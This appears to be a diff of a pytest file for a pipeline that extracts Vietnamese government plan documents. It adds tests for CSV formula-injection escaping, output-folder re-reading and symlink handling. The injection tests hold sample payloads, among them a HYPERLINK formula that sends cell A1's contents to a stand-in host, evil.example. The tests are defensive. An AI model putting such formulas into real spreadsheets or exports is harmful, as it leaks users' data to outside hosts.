@@ -50,7 +50,7 @@ Nguyễn Hùng Mạnh
 BAD_INPUTS = {
     "empty.txt": b"",
     "junk.txt": bytes(range(256)) * 50,
-    "not-a-zip.docx": b"this is not a zip archive at all",
+    "not-a-zip.docx": b"\x01\x02" + bytes(range(256)) * 8,
     "truncated.pdf": b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog",
     "old.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1024,
 }
@@ -89,7 +89,7 @@ def test_one_bad_file_never_stops_a_batch(batch: Path, tmp_path: Path) -> None:
     [
         pytest.param("empty.txt", "empty", id="empty"),
         pytest.param("junk.txt", "binary", id="junk"),
-        pytest.param("not-a-zip.docx", "not a Word .docx", id="text-named-docx"),
+        pytest.param("not-a-zip.docx", "not a Word .docx file, nor text", id="junk-named-docx"),
         pytest.param("truncated.pdf", "PDF", id="truncated-pdf"),
         pytest.param("old.doc", ".doc", id="word-97"),
     ],
@@ -236,3 +236,93 @@ def test_compare_lines_up_the_seed_plans_propaganda_and_training_in_one_chart(
     for text in ("localities_with_propaganda", "staff_trained", "Thanh Hóa", "Hòa Bình", "Chi Lăng",
                  "≥ 80 %", "≥ 20 %", "5/11 huyện, thành phố", "≥ 30 %", "2 lớp"):
         assert text in svg, text
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        pytest.param('=HYPERLINK("http://x/?q="&A1,"Bấm")', '\'=HYPERLINK("http://x/?q="&A1,"Bấm")', id="equals"),
+        pytest.param("+84 912 345 678", "'+84 912 345 678", id="plus"),
+        pytest.param("- Tăng cường tuyên truyền", "'- Tăng cường tuyên truyền", id="minus-bullet"),
+        pytest.param("@SUM(1+1)", "'@SUM(1+1)", id="at"),
+        pytest.param("\t=1+2", "'\t=1+2", id="tab"),
+        pytest.param("\r=1+2", "'\r=1+2", id="carriage-return"),
+        pytest.param("Sở Tư pháp", "Sở Tư pháp", id="plain-text"),
+        pytest.param("a=b", "a=b", id="formula-character-inside"),
+        pytest.param(-5, -5, id="negative-number-stays-a-number"),
+        pytest.param(None, "", id="null-is-empty"),
+    ],
+)
+def test_csv_cells_that_start_like_a_formula_get_a_quote(value: object, cell: object) -> None:
+    from pipeline.outputs import csv_cell
+
+    assert csv_cell(value) == cell
+
+
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")'
+
+
+def test_csv_tables_never_start_a_cell_with_a_formula_while_jsonl_keeps_the_raw_values(tmp_path: Path) -> None:
+    folder = tmp_path / "in"
+    folder.mkdir()
+    plan = GOOD_PLAN.replace("Thực hiện công tác phòng, chống mại dâm năm 2024", FORMULA_TITLE, 1)
+    (folder / "@SUM(1+1).txt").write_text(plan, encoding="utf-8")
+    _extract(str(folder), "-o", str(tmp_path / "csv"), "-f", "csv", "-q")
+    _extract(str(folder), "-o", str(tmp_path / "jsonl"), "-f", "jsonl", "-q")
+    for table in sorted((tmp_path / "csv").glob("*.csv")):
+        for row in csv.reader(io.StringIO(table.read_text(encoding="utf-8"))):
+            assert not [c for c in row if c.startswith(("=", "+", "-", "@", "\t", "\r"))], (table.name, row)
+    (doc_row,) = csv.DictReader(io.StringIO((tmp_path / "csv" / "documents.csv").read_text(encoding="utf-8")))
+    assert (doc_row["doc_id"], doc_row["title"]) == ("'@SUM(1+1)", "'" + FORMULA_TITLE)
+    doc = json.loads((tmp_path / "jsonl" / "documents.jsonl").read_text(encoding="utf-8"))
+    assert (doc["doc_id"], doc["metadata"]["title"]) == ("@SUM(1+1)", FORMULA_TITLE)
+
+
+def _sources(out: Path) -> list[str]:
+    """The input files behind an output folder's documents, in any format."""
+    if (out / "documents.csv").exists():
+        return sorted(Path(r["source_path"]).name for r in
+                      csv.DictReader(io.StringIO((out / "documents.csv").read_text(encoding="utf-8"))))
+    lines = (out / "documents.jsonl").read_text(encoding="utf-8").splitlines() if (out / "documents.jsonl").exists() \
+        else [p.read_text(encoding="utf-8") for p in out.glob("*.json")]
+    return sorted(Path(json.loads(line)["source"]["path"]).name for line in lines)
+
+
+def test_output_folders_inside_the_input_are_never_read_back(tmp_path: Path) -> None:
+    folder = tmp_path / "plans"
+    folder.mkdir()
+    (folder / "chi-lang.txt").write_text(GOOD_PLAN, encoding="utf-8")
+    (folder / "cam-ngoc.md").write_text(GOOD_PLAN.replace("huyện Chi Lăng", "xã Cẩm Ngọc"), encoding="utf-8")
+    plans = ["cam-ngoc.md", "chi-lang.txt"]
+    runs = [
+        ("out", "json"), ("out", "json"),  # the same output folder, run again
+        ("tables", "csv"),  # a second output folder beside the first
+        ("out", "jsonl"),
+        (".", "json"), (".", "json"),  # the output folder is the input folder itself
+    ]
+    for i, (name, fmt) in enumerate(runs):
+        out = folder / name
+        result = _extract(str(folder), "-o", str(out), "-f", fmt, "-q")
+        assert result.exit_code == 0, (i, result.output)
+        assert (out / "errors.jsonl").read_text(encoding="utf-8") == ""
+        assert _sources(out) == plans, (i, name, fmt)
+        if i == 1:  # and a report site inside the input is skipped as well
+            assert runner.invoke(app, ["report", str(out), "-o", str(folder / "site")]).exit_code == 0
+
+
+def test_follow_symlinks_reads_a_link_out_of_the_input_folder(tmp_path: Path) -> None:
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    (elsewhere / "chi-lang.txt").write_text(GOOD_PLAN, encoding="utf-8")
+    folder = tmp_path / "in"
+    folder.mkdir()
+    (folder / "linked.txt").symlink_to(elsewhere / "chi-lang.txt")
+    (folder / "linked-folder").symlink_to(elsewhere, target_is_directory=True)
+    out = tmp_path / "out"
+    assert _extract(str(folder), "-o", str(out), "-q").exit_code == 1
+    errors = [json.loads(line) for line in (out / "errors.jsonl").read_text(encoding="utf-8").splitlines()]
+    assert sorted(Path(e["path"]).name for e in errors) == ["linked-folder", "linked.txt"]
+    assert all("--follow-symlinks" in e["error"] and e["stage"] == "read" for e in errors)
+    followed = tmp_path / "followed"
+    assert _extract(str(folder), "-o", str(followed), "-q", "--follow-symlinks").exit_code == 0
+    assert sorted(p.name for p in followed.glob("*.json")) == ["chi-lang.json", "linked.json"]
